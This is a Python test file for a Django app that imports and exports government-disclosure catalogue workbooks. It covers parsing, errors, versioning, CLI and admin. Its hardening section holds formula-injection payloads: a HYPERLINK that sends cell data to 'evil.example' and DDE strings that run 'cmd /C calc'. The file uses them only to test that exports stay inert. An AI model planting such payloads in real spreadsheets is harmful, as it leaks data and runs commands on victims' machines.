"""Excel import and export of standard catalogues (标准目录).

The workbooks come from tests/workbooks.py, each rebuilt from a catalogue a
government published (source named there)."""

import io
import json

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.contrib.messages import get_messages
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from gk_columns.exporting import channel_checkbox_text, export_catalogue
from gk_columns.importing import (
    import_rows,
    import_workbook,
    normalise_label,
    parse_channels,
    parse_workbook,
)
from gk_columns.models import Catalogue, CatalogueEntry, Domain, StandardItem
from gk_columns.vocab import Audience, Channel, FivePublic, Level, Mode
from tests import workbooks as W
from tests.factories import entry_values, make_catalogue, make_domain, make_org

PILOT_DOMAINS = ["重大建设项目", "公共资源交易", "义务教育", "公共法律服务", "社会救助", "户籍管理", "公共文化服务"]
COUNTY = [Level.COUNTY.value]


@pytest.fixture
def domains(db):
    return {name: make_domain(name, order=i) for i, name in enumerate(PILOT_DOMAINS, start=1)}


def parse(workbook, **kwargs):
    kwargs.setdefault("default_level", COUNTY)
    return parse_workbook(W.to_bytes(workbook), **kwargs)


def locations(result):
    return [(e.sheet, e.row, e.column) for e in result.errors]


def save(workbook, tmp_path, name="catalogue.xlsx"):
    path = tmp_path / name
    workbook.save(path)
    return path


# -- reading real layouts ----------------------------------------------------


def test_several_domain_tables_in_one_sheet(domains, django_assert_num_queries):
    wb, first_rows = W.tonghai_multi_table()
    with django_assert_num_queries(1):  # reading touches the database only to read Domain
        result = parse(wb)
    assert result.errors == []
    assert [(r.domain, r.item_l1, r.item_l2, r.row) for r in result.rows] == [
        ("重大建设项目", "征收土地信息", "征收土地信息", first_rows[0]),
        ("公共资源交易", "政府采购信息", "法律法规及政策文件", first_rows[1]),
        ("义务教育", "重要政策执行情况", "控辍保学", first_rows[2]),
    ]
    land = result.rows[0]
    assert land.content.startswith("征地告知书以及履行征地报批前程序")
    assert land.time_limit == "信息形成20个工作日内公开"
    assert land.subject == "九龙街道办事处"
    # "全社 会", "主 动", "乡级" under a header broken by spaces.
    assert (land.channels, land.audience, land.mode, land.level) == (
        [Channel.WEBSITE.value],
        [Audience.PUBLIC.value],
        [Mode.PROACTIVE.value],
        [Level.TOWNSHIP.value],
    )
    assert result.sheets[0].tables == 3 and result.sheets[0].rows == 3


def test_same_as_above_merged_items_and_extra_columns(domains):
    wb, first = W.dongyang_legal_services()
    result = parse(wb)
    assert result.errors == []
    rows = result.rows
    assert [r.item_l1 for r in rows] == ["法治宣传教育"] * 3  # one merged cell over three rows
    assert [r.item_l2 for r in rows] == ["法律知识普及服务", "推广法治文化服务", "法治宣传教育表彰奖励"]
    # "同上" in 公开依据 and 公开渠道和载体 is the value of the cell above.
    assert rows[1].basis == rows[2].basis == rows[0].basis
    assert rows[0].basis.startswith("《中共中央、国务院转发<中央宣传部、司法部")
    assert rows[2].channels == rows[0].channels == [
        Channel.WEBSITE.value,
        Channel.NEW_MEDIA.value,
        Channel.BROADCAST.value,
        Channel.PRINT.value,
        Channel.ON_SITE.value,
        Channel.NOTICE_BOARD.value,
        Channel.OTHER.value,  # "■其他法律服务网注:…"
    ]
    # 东阳市级 is the county level of a county-level city; □决策 ticks no 五公开.
    assert all(r.level == COUNTY for r in rows)
    assert all(r.five_publics == [] for r in rows)
    assert [r.row for r in rows] == [first, first + 1, first + 2]


def test_traditional_characters_and_a_local_domain(domains):
    wb, first = W.fengtun_traditional()
    refused = parse(wb)
    assert refused.rows == []
    assert locations(refused) == [("鳳屯鎮", 1, "A")]
    assert "政府文件信息" in refused.errors[0].message

    result = parse(wb, create_domains=True)
    assert result.errors == []
    assert result.new_domains == ["政府文件信息"]
    assert [r.item_l2 for r in result.rows] == ["政府文件", "鄉鎮簡介", "政府工作報告"]
    assert {r.domain for r in result.rows} == {"政府文件信息"}
    # Labels and vocabularies are read through simplification; the row's own text is kept as written.
    assert result.rows[1].content.startswith("鄉鎮行政區劃")
    assert result.rows[0].channels == [Channel.WEBSITE.value, Channel.NOTICE_BOARD.value]
    assert result.rows[2].channels == [Channel.WEBSITE.value, Channel.PRESS.value]  # ■會議
    assert all(r.level == [Level.TOWNSHIP.value] for r in result.rows)  # 鎮級
    assert Domain.objects.filter(name="政府文件信息").exists() is False  # parsing writes nothing


def test_blank_leading_column_blank_rows_and_no_level_column(domains):
    wb, first, writer = W.qingpu_compulsory_education()
    result = parse(wb, default_level=[Level.COUNTY.value])
    assert result.errors == []
    assert [(r.item_l1, r.item_l2) for r in result.rows] == [
        ("政策文件", "教育法律"),
        ("政策文件", "规范性文件"),
        ("教育概况", "教育事业发展主要情况"),
        ("教育概况", "教育统计数据"),
    ]
    assert {r.domain for r in result.rows} == {"义务教育"}
    assert all(r.level == COUNTY and r.channels == [Channel.WEBSITE.value] for r in result.rows)
    assert result.rows[0].row == first == 6

    # Without a level to fall back on, the missing column is an error of the header.
    without_default = parse_workbook(W.to_bytes(wb))
    assert without_default.rows == []
    assert locations(without_default) == [("义务教育", 4, "B")]  # the header's first cell
    assert "公开层级" in without_default.errors[0].message


def test_several_sheets_merged_columns_and_free_text_channels(domains):
    result = parse(W.social_assistance_and_household())
    assert result.errors == []
    assert [(s.name, s.rows) for s in result.sheets] == [("社会救助", 5), ("户籍管理", 5), ("Sheet2", 0), ("Sheet3", 0)]
    assistance = [r for r in result.rows if r.domain == "社会救助"]
    # 公开时限 and 公开主体 merged down the whole table.
    assert {r.time_limit for r in assistance} == {W.BAODI_TIME}
    assert {r.subject for r in assistance} == {W.BAODI_SUBJECT}
    assert [r.item_l1 for r in assistance] == ["综合业务"] * 2 + ["最低生活保障"] * 3
    # "乡、村级" is one sub-column for two levels.
    assert assistance[0].level == [Level.COUNTY.value, Level.TOWNSHIP.value, Level.VILLAGE.value]
    assert assistance[4].channels == [Channel.WEBSITE.value, Channel.NOTICE_BOARD.value]

    household = [r for r in result.rows if r.domain == "户籍管理"]
    assert household[0].channels == [Channel.WEBSITE.value, Channel.ON_SITE.value]  # 山东政务服务网 is a website
    assert [(r.item_l1, r.item_l2) for r in household][2:4] == [("注销登记", "死亡注销"), ("注销登记", "服现役注销")]
    assert all(r.level == COUNTY for r in household)


def test_one_text_column_per_choice(domains):
    wb, first = W.culture_text_columns()
    result = parse(wb)
    assert result.errors == []
    rows = result.rows
    assert [r.item_l1 for r in rows] == ["公共服务"] * 4  # "同上" in 一级事项
    assert rows[0].channels == [Channel.WEBSITE.value, Channel.OTHER.value]  # "1.政府网站; 2.其他"
    assert rows[0].level == [Level.COUNTY.value, Level.TOWNSHIP.value]  # "县级、乡级"
    assert rows[3].audience == [Audience.PUBLIC.value, Audience.SPECIFIC.value]
    assert rows[3].mode == [Mode.PROACTIVE.value, Mode.ON_REQUEST.value]
    assert rows[3].level == [Level.TOWNSHIP.value]
    assert rows[3].basis == rows[2].basis  # "同上" in 公开依据


def test_domain_from_a_domain_column_and_from_the_sheet_name(domains):
    wb = Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    w = W.SheetWriter(ws)
    w.header([("领域",)] + W.TONGHAI_HEADER[1:])
    rows = [["义务教育"] + W.TONGHAI_TABLES[2][1][0][1:], ["重大建设项目领域"] + W.TONGHAI_TABLES[0][1][0][1:]]
    w.rows(rows)
    second = wb.create_sheet("社会救助")
    W.SheetWriter(second).header(W.BAODI_HEADER).rows(W.BAODI_ROWS[:1])
    result = parse(wb)
    assert result.errors == []
    assert [r.domain for r in result.rows] == ["义务教育", "重大建设项目", "社会救助"]


def test_lost_merges_three_item_levels_and_rows_around_the_table(domains):
    """Tables that went through Word or PDF before Excel: group labels written
    once over unmerged cells, "（要素）" alone on the header's second row,
    一级事项 only on the first row of its group, titles broken over lines, a
    三级事项 column whose 一级 just repeats the domain (四川 蓬莱派出所 户籍管理
    catalogue, https://dyrmt.com/article-156546-1.html), a basis continued on
    the next row, a pre-numbered empty row and a sign-off row."""
    wb = Workbook()
    ws = wb.active
    ws.title = "户籍"
    ws.append(["户籍管理领域基层政务公开标准目录"])
    ws.append(["序号", "公开事项", None, None, "公开内容", "公开依据", "公开时限", "公开主体", "公开渠道和载体",
               "公开对象", None, "公开方式", None, "公开层级", None])
    ws.append([None, "一级事项", "二级事项", "三级事项", "（要素）", None, None, None, None, "全社会", "特定群众", "主动",
               "依申请公开", "县级", "乡、村级"])
    common = [W.HUJI_CONTENT, "《四川省公安机关户政管理工作规程》", "形成或者变更之日起20个\n工作日内予以公开", "蓬莱\n派出所",
              "■政府网站 ■入户/现场", "√", None, "√", None, None, "√"]
    ws.append([1, "户籍管理", "出生登记", "出生登记"] + common)
    ws.append([2, None, "注销登记", "死亡注销"] + common)
    ws.append([None, None, None, None, None, "《中华人民共和国户口登记条例》"])
    ws.append([3, None, "注销登记", "服现役注销"] + common)
    ws.append([4])
    ws.append(["填表人：李明", None, None, "审核人：王芳", None, "联系电话：0825-1234567"])
    result = parse(wb)
    assert result.errors == []
    assert [(r.item_l1, r.item_l2) for r in result.rows] == [
        ("出生登记", "出生登记"),
        ("注销登记", "死亡注销"),
        ("注销登记", "服现役注销"),
    ]
    assert result.rows[0].time_limit == "形成或者变更之日起20个工作日内予以公开"
    assert result.rows[0].subject == "蓬莱派出所"
    assert result.rows[1].basis == "《四川省公安机关户政管理工作规程》\n《中华人民共和国户口登记条例》"
    assert result.rows[0].audience == [Audience.PUBLIC.value]
    assert result.rows[0].level == [Level.TOWNSHIP.value, Level.VILLAGE.value]


def test_normalised_labels_and_channel_words():
    assert normalise_label("公開內容（要素）") == "公开内容(要素)"
    assert normalise_label("公 开\n时 限") == "公开时限"
    assert parse_channels("政府网站、政务新媒体、公开查阅点")[0] == [
        Channel.WEBSITE.value,
        Channel.NEW_MEDIA.value,
        Channel.READING_POINT.value,
    ]
    assert parse_channels("政府网站 政务新媒体；12345热线/其他")[0] == [
        Channel.WEBSITE.value,
        Channel.NEW_MEDIA.value,
        Channel.HOTLINE.value,
        Channel.OTHER.value,
    ]
    # 口 retyped for □ and Word's Wingdings boxes as private-use characters.
    assert parse_channels("■政府网站 口两微一端 口公开查阅点")[0] == [Channel.WEBSITE.value]
    assert parse_channels("\uf0fe政府网站 \uf0a8政府公报 \uf0fe入户/现场")[0] == [
        Channel.WEBSITE.value,
        Channel.ON_SITE.value,
    ]
    # Unticked words are not checked; ticked unknown ones are reported.
    assert parse_channels("■政府网站 □飞鸽传书") == ([Channel.WEBSITE.value], [])
    assert parse_channels("■政府网占") == ([], ["政府网占"])


# -- errors, where they are ---------------------------------------------------


def test_wrong_header_is_reported_at_the_unknown_label(domains):
    header = list(W.BAODI_HEADER)
    header[1] = ("公开事项", ["大类", "小类"])
    wb = Workbook()
    ws = wb.active
    ws.title = "社会救助"
    W.SheetWriter(ws).title("社会救助领域基层政务公开标准目录", 14).header(header).rows(W.BAODI_ROWS)
    result = parse(wb)
    assert result.rows == []
    assert locations(result) == [("社会救助", 3, "B")]
    assert result.errors[0].message == "表头缺少“一级事项”列（无法识别的表头：大类、小类）。"


def test_sheet_without_any_header(domains):
    wb = Workbook()
    ws = wb.active
    ws.title = "义务教育"
    ws["C3"] = "名称"
    ws["D3"] = "描述"
    ws["C4"] = "政策文件"
    ws["D4"] = "教育法律、规章制度"
    result = parse(wb)
    assert locations(result) == [("义务教育", 3, "C")]
    assert result.errors[0].message.startswith("未找到表头")


def test_missing_elements_unknown_channel_and_same_as_above_at_their_cells(domains):
    row = W.TONGHAI_TABLES[2][1][0]
    no_content = row[:3] + [""] + row[4:]
    no_mode = [2, "重要政策执行情况", "学生资助"] + row[3:10] + ["", "", "√"]
    no_level = [3, "重要政策执行情况", "营养改善计划"] + row[3:12] + [""]
    bad_channel = [4, "招生管理", "学校介绍"] + row[3:7] + ["■政府网占 □政府公报"] + row[8:]
    no_item = [5, "", ""] + row[3:]
    wb, first_rows = W.tonghai_multi_table(
        [(W.TONGHAI_TABLES[2][0], [no_content, no_mode, no_level, bad_channel, no_item])]
    )
    first = first_rows[0]
    result = parse(wb)
    assert result.rows == []
    errors = [(e.row, e.column, e.message) for e in result.errors]
    assert errors == [
        (first, "D", "缺少公开内容（要素）。"),
        (first + 1, "K", "公开方式未勾选（主动/依申请）。"),
        (first + 2, "M", "公开层级未勾选（县级/乡级/村级）。"),
        (first + 3, "H", "无法识别的公开渠道“政府网占”。"),
        (first + 4, "B", "缺少一级事项。"),
    ]
    assert {e.sheet for e in result.errors} == {"九龙街道"}

    rows = [list(r) for r in W.CULTURE_ROWS]
    rows[0][1] = "同上"
    wb, first = W.culture_text_columns(rows)
    result = parse(wb)
    assert [(e.row, e.column, e.message) for e in result.errors][0] == (first, "B", "“同上”上方没有可引用的内容。")


def test_duplicate_rows_within_and_across_sheets(domains):
    row = W.TONGHAI_TABLES[2][1][0]
    wb, first_rows = W.tonghai_multi_table([(W.TONGHAI_TABLES[2][0], [row, [2] + row[1:]])])
    first = first_rows[0]
    other = wb.create_sheet("义务教育（续）")
    W.SheetWriter(other).title(W.TONGHAI_TABLES[2][0], 13).header(W.TONGHAI_HEADER).rows([[9] + row[1:]])
    result = parse(wb)
    assert locations(result) == [("九龙街道", first + 1, None), ("义务教育（续）", 4, None)]
    assert f"与第{first}行重复" in result.errors[0].message
    assert f"与工作表“九龙街道”第{first}行重复" in result.errors[1].message
    assert [r.row for r in result.rows] == [first]


def test_empty_sheet_and_empty_workbook(domains):
    wb, _ = W.baodi_social_assistance()
    wb.create_sheet("户籍管理")  # named for a domain, left empty: the table was forgotten
    result = parse(wb)
    assert locations(result) == [("户籍管理", None, None)]
    assert result.errors[0].message == "工作表为空。"

    result = parse(Workbook())
    assert [e.message for e in result.errors] == ["工作表为空。"]
    assert not result.ok

    result = parse_workbook(io.BytesIO(b"not a workbook"))
    assert result.errors[0].message.startswith("无法读取文件")


def test_unknown_domain_is_reported_once_at_its_title(domains):
    rows = W.TONGHAI_TABLES[2][1][0]
    wb, _ = W.tonghai_multi_table([("(四)涉农资金领域基层政务公开标准目录", [rows, [2, "资金明细"] + rows[2:]])])
    result = parse(wb)
    assert locations(result) == [("九龙街道", 1, "A")]
    assert result.errors[0].message.startswith("系统中没有“涉农资金”领域")

    # With domain creation the new domain is named without the place and office in front of it
    # (德安县, http://www.dean.gov.cn/ztzl/zwgkzl/wszzt/gklw001/snxx/202302/t20230214_5934672.html).
    wb, _ = W.tonghai_multi_table([("德安县人民政府涉农资金领域基层政务公开标准目录", [rows])])
    assert parse(wb, create_domains=True).new_domains == ["涉农资金"]
    wb, _ = W.tonghai_multi_table([("青浦区农业农村委涉农资金领域基层政务公开标准目录", [rows])])
    assert parse(wb, create_domains=True).new_domains == ["涉农资金"]


# -- writing -------------------------------------------------------------------


def test_import_writes_a_draft_version_with_entries_in_file_order(domains):
    org = make_org()
    user = get_user_model().objects.create_user("editor", password="x")
    result, catalogue = import_workbook(org, W.to_bytes(W.social_assistance_and_household()), user)
    assert result.ok
    assert catalogue.version == 1 and catalogue.status == Catalogue.Status.DRAFT and catalogue.created_by == user
    entries = list(catalogue.entries.order_by("order"))
    assert [e.element_values() for e in entries] == [r.element_values() for r in result.rows]
    assert entries[0].time_limit_rule["text"] == W.BAODI_TIME  # the model's derived data is computed


def test_errors_write_nothing(domains):
    org = make_org()
    wb, _ = W.baodi_social_assistance()
    wb.create_sheet("户籍管理")
    before = (Catalogue.objects.count(), CatalogueEntry.objects.count(), Domain.objects.count())
    result, catalogue = import_workbook(org, W.to_bytes(wb), create_domains=True)
    assert catalogue is None and result.errors
    assert (Catalogue.objects.count(), CatalogueEntry.objects.count(), Domain.objects.count()) == before


def test_import_rows_is_atomic(domains):
    org = make_org()
    result = parse(W.tonghai_multi_table()[0])
    rows = [r.element_values() for r in result.rows]
    rows.append(dict(rows[0], domain="涉农资金", item_l2="新领域的事项"))
    rows.append(dict(rows[0], item_l2="坏渠道", channels=["飞鸽传书"]))
    with pytest.raises(ValidationError):
        import_rows(org, rows, create_domains=True)
    assert Catalogue.objects.count() == 0
    assert CatalogueEntry.objects.count() == 0
    assert not Domain.objects.filter(name="涉农资金").exists()


def test_reimport_keeps_lineage_and_links_standard_items(domains):
    org = make_org()
    education = domains["义务教育"]
    standard = StandardItem.objects.create(
        domain=education, item_l1="政策文件", item_l2="规范性文件", content="部门规范性文件", mode=[Mode.PROACTIVE.value]
    )
    first = import_workbook(org, W.to_bytes(W.qingpu_compulsory_education()[0]))[1]
    first_entries = {e.item_l2: e for e in first.entries.all()}
    assert first_entries["规范性文件"].standard_item == standard
    assert first_entries["教育法律"].standard_item is None
    first_entries["教育法律"].not_applicable = True
    first_entries["教育法律"].not_applicable_reason = "本级不制定教育法律"
    first_entries["教育法律"].save()

    rows = [list(r) for r in W.QINGPU_ROWS]
    rows[1][3] = "部门规范性文件及解读"  # changed content, same item
    rows[3][2] = "教育经费统计"  # renamed item: a new entry
    second = import_workbook(org, W.to_bytes(W.qingpu_compulsory_education(rows)[0]))[1]
    assert second.version == 2
    second_entries = {e.item_l2: e for e in second.entries.all()}
    for same in ("教育法律", "规范性文件", "教育事业发展主要情况"):
        assert second_entries[same].lineage == first_entries[same].lineage
    assert second_entries["规范性文件"].content == "部门规范性文件及解读"
    assert second_entries["教育经费统计"].lineage not in {e.lineage for e in first_entries.values()}
    assert second_entries["教育法律"].not_applicable_reason == "本级不制定教育法律"
    diff = second.diff(first)
    assert diff["added"] == ["义务教育｜教育概况｜教育经费统计"]
    assert diff["removed"] == ["义务教育｜教育概况｜教育统计数据"]


def test_create_domains_makes_non_pilot_domains(domains):
    org = make_org(kind="township")
    result, catalogue = import_workbook(org, W.to_bytes(W.fengtun_traditional()[0]), create_domains=True)
    domain = Domain.objects.get(name="政府文件信息")
    assert domain.is_pilot is False and domain.code
    assert catalogue.entries.filter(domain=domain).count() == 3


# -- export and round trip ------------------------------------------------------


def _rich_catalogue(domains):
    org = make_org(name="测试县教育局")
    education, assistance = domains["义务教育"], domains["社会救助"]
    entries = [
        entry_values(education, "政策文件", "教育法律", channels=[Channel.WEBSITE.value, Channel.READING_POINT.value]),
        entry_values(education, "政策文件", "规范性文件", five_publics=[FivePublic.DECISION.value]),
        entry_values(
            education,
            "教育概况",
            "",
            audience=[Audience.PUBLIC.value, Audience.SPECIFIC.value],
            mode=[Mode.PROACTIVE.value, Mode.ON_REQUEST.value],
            level=[Level.COUNTY.value, Level.TOWNSHIP.value],
        ),
        entry_values(
            assistance,
            "最低生活保障",
            "审核信息",
            content="初审对象名单及相关信息\n（公示7个工作日）",
            channels=[c.value for c in Channel],
            level=[Level.TOWNSHIP.value, Level.VILLAGE.value],
            not_applicable=True,
            not_applicable_reason="由乡镇公示",
        ),
    ]
    return org, make_catalogue(org, entries)


def test_export_writes_the_national_layout(domains, tmp_path):
    org, catalogue = _rich_catalogue(domains)
    path = tmp_path / "out.xlsx"
    export_catalogue(catalogue, path)
    wb = load_workbook(path)
    assert wb.sheetnames == ["义务教育", "社会救助"]
    ws = wb["义务教育"]
    assert ws["A1"].value == "测试县教育局义务教育领域基层政务公开标准目录"
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"A1:T1", "A2:A3", "B2:C2", "D2:D3", "H2:H3", "I2:J2", "K2:L2", "M2:O2", "P2:T2", "B4:B5"} <= merged
    assert [ws.cell(3, c).value for c in range(9, 16)] == ["全社会", "特定群体", "主动", "依申请", "县级", "乡级", "村级"]
    assert ws["B4"].value == "政策文件" and ws["C5"].value == "规范性文件"
    assert ws["H4"].value.startswith("■政府网站 □政府公报\n")
    assert [ws.cell(6, c).value for c in range(9, 16)] == ["√", "√", "√", "√", "√", "√", None]
    assert ws["P5"].value == "√"  # 决策公开
    assert ws.column_dimensions["D"].width > ws.column_dimensions["I"].width
    assert ws["D4"].alignment.wrap_text
    notes = wb["社会救助"]
    assert notes["P2"].value == "备注" and notes["P4"].value == "不适用：由乡镇公示"


def test_export_then_import_round_trips(domains, tmp_path):
    org, catalogue = _rich_catalogue(domains)
    buffer = io.BytesIO()
    export_catalogue(catalogue, buffer)
    result, copy = import_workbook(org, buffer)
    assert result.errors == []
    original = [e.element_values() for e in catalogue.entries.order_by("domain__order", "order")]
    assert [e.element_values() for e in copy.entries.order_by("domain__order", "order")] == original
    assert {e.lineage for e in copy.entries.all()} == {e.lineage for e in catalogue.entries.all()}


def test_real_layout_import_export_import(domains):
    org = make_org()
    first = import_workbook(org, W.to_bytes(W.social_assistance_and_household()))[1]
    buffer = io.BytesIO()
    export_catalogue(first, buffer)
    second = import_workbook(org, buffer)[1]
    assert [e.element_values() for e in second.entries.order_by("order")] == [
        e.element_values() for e in first.entries.order_by("order")
    ]


def test_channel_checkbox_text_lists_every_channel():
    text = channel_checkbox_text([Channel.HOTLINE.value])
    assert text.count("■") == 1 and text.count("□") == len(Channel) - 1
    assert parse_channels(text)[0] == [Channel.HOTLINE.value]


# -- commands ------------------------------------------------------------------


def test_cli_json_output(domains, tmp_path, capsys):
    org = make_org(code="qpjy")
    path = save(W.qingpu_compulsory_education()[0], tmp_path)
    call_command("import_catalogue", str(path), "--org", "qpjy", "--format", "json")
    out = json.loads(capsys.readouterr().out)
    assert set(out) == {"rows", "errors"} and out["errors"] == []
    assert len(out["rows"]) == 4
    assert set(out["rows"][0]) == {
        "domain",
        "item_l1",
        "item_l2",
        "content",
        "basis",
        "time_limit",
        "subject",
        "channels",
        "audience",
        "mode",
        "level",
        "five_publics",
    }
    assert out["rows"][0]["channels"] == ["政府网站"] and out["rows"][0]["level"] == ["县级"]
    assert org.catalogues.get().entries.count() == 4


def test_cli_errors_exit_non_zero_and_write_nothing(domains, tmp_path, capsys):
    make_org(code="jl")
    row = W.TONGHAI_TABLES[2][1][0]
    wb, first_rows = W.tonghai_multi_table([(W.TONGHAI_TABLES[2][0], [row[:7] + ["■政府网占"] + row[8:]])])
    path = save(wb, tmp_path)
    with pytest.raises(CommandError) as raised:
        call_command("import_catalogue", str(path), "--org", "jl", "--format", "json")
    assert raised.value.returncode == 1
    out = json.loads(capsys.readouterr().out)
    assert out["rows"] == []
    assert out["errors"] == [
        {"sheet": "九龙街道", "row": first_rows[0], "column": "H", "message": "无法识别的公开渠道“政府网占”。"}
    ]
    with pytest.raises(CommandError):
        call_command("import_catalogue", str(path), "--org", "jl")
    assert f"工作表 九龙街道 第{first_rows[0]}行 H列：无法识别的公开渠道“政府网占”。" in capsys.readouterr().out
    assert Catalogue.objects.count() == 0


def test_cli_dry_run_writes_nothing(domains, tmp_path, capsys):
    make_org(code="ft", kind="township")
    path = save(W.fengtun_traditional()[0], tmp_path)
    call_command("import_catalogue", str(path), "--org", "ft", "--dry-run", "--create-domains")
    out = capsys.readouterr().out
    assert "工作表 鳳屯鎮：已解析 3 行" in out
    assert "试运行" in out and "新建领域：政府文件信息" in out
    assert Catalogue.objects.count() == 0 and not Domain.objects.filter(name="政府文件信息").exists()


def test_cli_export_picks_the_published_version(domains, tmp_path, capsys):
    org = make_org(code="exp")
    education = domains["义务教育"]
    make_catalogue(org, [entry_values(education, "政策文件", "教育法律")], status=Catalogue.Status.PUBLISHED)
    make_catalogue(org, [entry_values(education, "政策文件", "草稿中的事项")])
    out = tmp_path / "exported.xlsx"
    call_command("export_catalogue", "--org", "exp", "--out", str(out))
    assert "第1版" in capsys.readouterr().out
    assert load_workbook(out)["义务教育"]["C4"].value == "教育法律"
    call_command("export_catalogue", "--org", "exp", "--out", str(out), "--version", "2")
    assert load_workbook(out)["义务教育"]["C4"].value == "草稿中的事项"
    with pytest.raises(CommandError):
        call_command("export_catalogue", "--org", "exp", "--out", str(out), "--version", "9")

    # The exported file imports back through the command.
    call_command("import_catalogue", str(out), "--org", "exp")
    assert org.catalogues.order_by("-version").first().entries.get().item_l2 == "草稿中的事项"


# -- admin ---------------------------------------------------------------------


# admin_client is pytest-django's client logged in as the superuser "admin".


def _upload(client, workbook, org, **extra):
    upload = W.to_bytes(workbook)
    upload.name = "标准目录.xlsx"
    data = {"file": upload, "organisation": org.pk, **extra}
    return client.post(reverse("gk_columns_import:import_upload"), data)


def test_admin_upload_preview_confirm(admin_client, domains, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.GK_PRIVATE_UPLOAD_DIR = private = tmp_path / "private"
    org = make_org()
    assert admin_client.get(reverse("gk_columns_import:import_upload")).status_code == 200
    response = _upload(admin_client, W.social_assistance_and_household(), org)
    assert response.status_code == 302
    preview_url = response["Location"]
    # Kept privately until confirmed: media is served to the public.
    assert len(list(private.iterdir())) == 1
    assert not (tmp_path / "media").exists()

    preview = admin_client.get(preview_url)
    assert preview.status_code == 200
    html = preview.content.decode()
    assert "共解析 <strong>10</strong> 个事项" in html
    assert "最低生活保障" in html and "户籍管理" in html
    assert "确认导入为新草稿版本" in html
    assert Catalogue.objects.count() == 0  # previewing writes nothing

    confirm_url = preview.context["confirm_url"]
    done = admin_client.post(confirm_url, {"confirm": "1"})
    catalogue = org.catalogues.get()
    assert catalogue.entries.count() == 10 and catalogue.created_by.username == "admin"
    assert done["Location"] == reverse("gk_catalogue:inspect", args=[catalogue.pk])
    assert [str(m) for m in get_messages(done.wsgi_request)] == [
        f"已导入为{org.name}公开目录第1版（草稿），共 10 个事项。"
    ]
    assert not list(private.iterdir())  # the upload is removed once imported
    # The token is spent: confirming again imports nothing more.
    admin_client.post(confirm_url, {"confirm": "1"})
    assert org.catalogues.count() == 1


def test_admin_preview_lists_errors_and_refuses_to_confirm(admin_client, domains, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.GK_PRIVATE_UPLOAD_DIR = tmp_path / "private"
    org = make_org()
    row = W.TONGHAI_TABLES[2][1][0]
    wb, first_rows = W.tonghai_multi_table([(W.TONGHAI_TABLES[2][0], [row[:3] + [""] + row[4:]])])
    preview = admin_client.get(_upload(admin_client, wb, org)["Location"])
    html = preview.content.decode()
    assert "发现 1 处错误" in html
    assert f"<td>{first_rows[0]}</td>" in html and "<td>D</td>" in html and "缺少公开内容（要素）。" in html
    assert "确认导入为新草稿版本" not in html
    admin_client.post(preview.context["confirm_url"], {"confirm": "1"})
    assert Catalogue.objects.count() == 0

    admin_client.post(preview.context["confirm_url"], {"cancel": "1"})
    assert not list((tmp_path / "private").iterdir())


def test_admin_import_needs_permission(client, domains, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    url = reverse("gk_columns_import:import_upload")
    assert client.get(url).status_code == 302  # to the login page
    user = get_user_model().objects.create_user("reader", password="pw")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    assert client.get(url).status_code in (302, 403)
    user.user_permissions.add(Permission.objects.get(codename="add_catalogue"))
    user = get_user_model().objects.get(pk=user.pk)
    client.force_login(user)
    assert client.get(url).status_code == 200


def test_admin_upload_refuses_non_xlsx(admin_client, domains, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    org = make_org()
    upload = io.BytesIO(b"\xd0\xcf\x11\xe0 old xls")
    upload.name = "目录.xls"
    response = admin_client.post(reverse("gk_columns_import:import_upload"), {"file": upload, "organisation": org.pk})
    assert response.status_code == 200
    assert "只支持 .xlsx" in response.content.decode()


# -- hostile and unusual workbooks (security finding "Hardening" 6, 7, 17) ------------------------

FORMULA_LIKE = {
    "item_l1": '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "item_l2": "+cmd|' /C calc'!A0",
    "content": "@SUM(1+1)*cmd|' /C calc'!A0",
    "basis": "-2+3+cmd|' /C calc'!A0",
}


def test_export_writes_formula_like_text_as_text_and_imports_it_back(domains):
    org = make_org()
    catalogue = make_catalogue(org, [entry_values(domains["义务教育"], **FORMULA_LIKE)])
    buffer = io.BytesIO()
    export_catalogue(catalogue, buffer)
    ws = load_workbook(io.BytesIO(buffer.getvalue()))["义务教育"]  # as stored: a formula would read as one
    cells = {ws[ref].value: ws[ref] for ref in ("B4", "C4", "D4", "E4")}
    assert set(cells) == set(FORMULA_LIKE.values())
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells.values())
    assert isinstance(ws["A4"].value, int)  # 序号 stays a number

    result, copy = import_workbook(org, buffer)
    assert result.errors == []
    [entry] = copy.entries.all()
    assert {name: getattr(entry, name) for name in FORMULA_LIKE} == FORMULA_LIKE


@pytest.fixture
def no_loading(monkeypatch):
    """Fails the test if openpyxl is asked to load the workbook: refusals come first."""
    loads = []
    monkeypatch.setattr("gk_columns.importing.load_workbook", lambda *args, **kwargs: loads.append(args))
    return loads


def refusal(result):
    [issue] = result.errors
    assert result.rows == [] and issue.message.startswith("无法导入：")
    return issue


def test_tiny_workbook_declaring_a_whole_sheet_is_refused_before_loading(domains, no_loading):
    upload = W.to_bytes(W.far_corner_cells())
    assert len(upload.getvalue()) < 10_000  # the attack: a few kilobytes
    issue = refusal(parse_workbook(upload))
    assert (issue.sheet, issue.row, issue.column) == ("社会救助", None, None)
    assert "使用区域为 A1:XFD1048576（1048576 行 × 16384 列）" in issue.message
    assert "每个工作表最多 5000 行、50 列（A1:AX5000）" in issue.message
    assert no_loading == []


def test_cells_outside_the_limits_are_refused_whatever_the_sheet_declares(domains, no_loading):
    lying = W.with_dimension(W.far_corner_cells(), "A1:N8")
    issue = refusal(parse_workbook(lying))
    assert (issue.sheet, issue.row, issue.column) == ("社会救助", 1, "XFD")
    assert "单元格 XFD1 超出导入范围" in issue.message
    # openpyxl loads any sheet relationship that is not a chart sheet: so does the check.
    disguised = W.rewrite_part(
        lying, "xl/_rels/workbook.xml.rels", lambda xml: xml.replace("relationships/worksheet", "relationships/other")
    )
    assert "单元格 XFD1 超出导入范围" in refusal(parse_workbook(disguised)).message
    assert no_loading == []


def test_the_limits_are_the_sheet_bounds(domains):
